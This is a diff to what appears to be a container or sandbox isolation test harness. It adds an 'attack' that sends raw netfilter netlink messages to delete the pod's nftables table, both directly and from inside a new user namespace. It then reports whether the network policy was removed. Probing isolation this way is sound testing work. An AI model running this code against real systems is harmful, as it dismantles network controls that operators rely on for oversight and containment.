@@ -198,6 +198,37 @@ def namespaces(given: Given) -> Ways:
 
 
 @attack
+def packet_filter(given: Given) -> Ways:
+    """The rules by which the pod's network policies are enforced, deleted."""
+    del given
+    libc = ctypes.CDLL(None, use_errno=True)
+
+    def unfiltered() -> bool:
+        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12) as control:  # NETLINK_NETFILTER
+            name = struct.pack("HH7sx", 11, 1, b"encamp\0")
+            edges = [struct.pack("IHHIIBBH", 20, kind, 1, 0, 0, 0, 0, 0x0A00) for kind in (16, 17)]
+            delete = struct.pack("IHHIIBBH", 20 + len(name), 0x0A02, 5, 1, 0, 1, 0, 0) + name
+            control.settimeout(SECONDS)
+            control.send(edges[0] + delete + edges[1])
+            return struct.unpack_from("i", control.recv(9999), 16)[0] == 0
+
+    def unfiltered_from_a_namespace() -> bool:
+        child = os.fork()
+        if child == 0:
+            code = 0
+            if libc.unshare(0x10000000) == 0:  # CLONE_NEWUSER
+                try:
+                    code = unfiltered()
+                except OSError:
+                    code = 0
+            os._exit(code)
+        return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 1
+
+    yield "its packet filter", unfiltered
+    yield "its packet filter from a user namespace", unfiltered_from_a_namespace
+
+
+@attack
 def descriptors(given: Given) -> Ways:
     """Whatever was left open on the way here."""
     del given
@@ -216,7 +247,7 @@ def main() -> None:
     run = Run()
     for collect in ATTACKS:
         ways = list(collect(given))
-        if collect.__name__ in ("mounts", "namespaces"):
+        if collect.__name__ in ("mounts", "namespaces", "packet_filter"):
             for name, act in ways:
                 run.one(name, act)
         else:
